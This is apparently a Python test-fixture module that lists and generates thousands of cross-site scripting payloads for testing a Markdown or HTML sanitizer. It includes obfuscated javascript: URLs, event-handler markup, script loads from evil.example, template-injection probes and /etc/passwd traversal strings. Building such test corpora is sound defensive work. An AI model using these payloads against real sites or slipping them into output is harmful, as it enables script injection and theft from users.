"""Attacks on pages, written for these tests."""

from __future__ import annotations

import itertools

#: Spellings of addresses that browsers run, or that only look like https.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#0000058alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "java\u0000script:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://x/y",
    "filesystem:https://x/y",
    "view-source:https://x",
    "about:blank",
    "ftp://x.org/a",
    "ws://x.org",
    "http://x.org",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:\\\\evil.example",
    "https:evil.example",
    "https:///evil.example",
    "https://",
    "https://user@evil.example",
    "https://good.example@evil.example",
    'https://x.org/" onclick="alert(1)',
    "https://x.org/><script>alert(1)</script>",
    "https://x.org:port/",
    "https://[::1",
    '#" onclick="x',
    "?javascript:x",
    "../../../etc/passwd",
    "..\\x.md",
    "x.md#javascript:x",
)

#: HTML of every kind that has ever run something.
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x:x onerror="alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href='//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    '<p style="behavior:url(#x)">x</p>',
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>x",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<isindex action=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "https://x.org/'onclick='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}",
    "{% for x in [1] %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<a id=content name=q>x</a>",
    "<p id=q>x</p>",
)

#: Places for an address in Markdown.
ADDRESSED = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    '![x](<{}> "t")',
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> 'a \" b'",
    "# [x]({})",
    "| a |\n|---|\n| [x](<{}>) |",
    "> - [x](<{}>)",
    "[![x]({0})]({0})",
    '[a](<{}> "x\\" onclick=alert(1) y=\\"")',
)

#: Places for any text in Markdown.
WRITTEN = (
    "{}",
    "a {} b",
    "# {}",
    "- {}",
    "> {}",
    "`{}`",
    "```{}\nx\n```",
    "```python\n{}\n```",
    "    {}",
    "[{}](https://x.org)",
    "![{}](https://x.org/a.png)",
    "| {} |\n|---|\n| {} |",
    "**{}**",
    '[x](https://x.org "{}")',
    "```html\n{}\n```",
)

#: The same by parts, to be combined: what starts an element, what parts its attributes, what runs, how it is quoted.
_ELEMENTS = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "iframe src=x",
    "object data=x", "marquee", "a href=x tabindex=1", "select autofocus", "textarea autofocus", "math", "x", "style",
    "script src=x", "link rel=stylesheet href=x", "div contenteditable", "form id=x", "button", "table background=x",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
    "ONERROR", "onbegin", "onauxclick",
)  # fmt: skip
_GAPS = (" ", "/", "\t", "\n", "\f", "/ /")
_QUOTES = ("={}", '="{}"', "='{}'", " = {}")
_CODE = ("alert(1)", "alert`1`", "&#97;lert(1)", "top['al'+'ert'](1)")
#: Ways to hide a scheme, letter by letter.
_SPELLINGS = (
    str,
    str.upper,
    lambda scheme: "".join(c.upper() if at % 2 else c for at, c in enumerate(scheme)),
    "\t".join,
    "\n".join,
    lambda scheme: "".join(f"&#{ord(c)};" for c in scheme),
    lambda scheme: "".join(f"&#x{ord(c):x};" for c in scheme),
    lambda scheme: "".join(f"&#{ord(c):07d}" for c in scheme),
    lambda scheme: "".join(f"%{ord(c):02x}" for c in scheme),
    lambda scheme: "".join(f"\\{c}" for c in scheme),
    lambda scheme: f"\x01{scheme}",
    lambda scheme: f" \u00a0{scheme}",
    lambda scheme: f"\u200b{scheme}",
    lambda scheme: scheme[:4] + "&Tab;" + scheme[4:],
    lambda scheme: scheme[:4] + "&NewLine;" + scheme[4:],
    lambda scheme: scheme[:4] + "\u0000" + scheme[4:],
)
_SCHEMES = ("javascript", "vbscript", "data", "file", "blob")
_COLONS = (":", "&colon;", "&#58;", "%3a", "：", ":\t")
_AFTER = ("alert(1)", "//x.org/%0aalert(1)", "text/html,<script>alert(1)</script>")
#: What closes whatever a text may stand in.
_ENDS = ("", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "</style>", "]]>", "`", "\n\n", "</code></pre>")


def corpus() -> tuple[str, ...]:
    """Return thousands of distinct attacks: elements that run, after every kind of end, and addresses in hiding."""
    made = [
        f"<{element}{gap}{handler}{quote.format(code)}>"
        for at, (element, gap, handler) in enumerate(itertools.product(_ELEMENTS, _GAPS, _HANDLERS))
        for quote, code in ((_QUOTES[at % 4], _CODE[at % 3]), (_QUOTES[(at + 1) % 4], _CODE[(at + 2) % 4]))
    ]
    addresses = [
        spell(scheme) + colon + after
        for spell, scheme, colon, after in itertools.product(_SPELLINGS, _SCHEMES, _COLONS, _AFTER)
    ]
    ends = itertools.cycle(_ENDS)
    texts = [next(ends) + text for text in (*made, *MARKUP)]
    forms = itertools.cycle(ADDRESSED)
    linked = [next(forms).replace("{0}", "{}").replace("{}", text) for text in addresses]
    raw = [f'<a href="{text}">x</a>' for text in addresses]
    return tuple(dict.fromkeys((*texts, *linked, *raw, *addresses)))
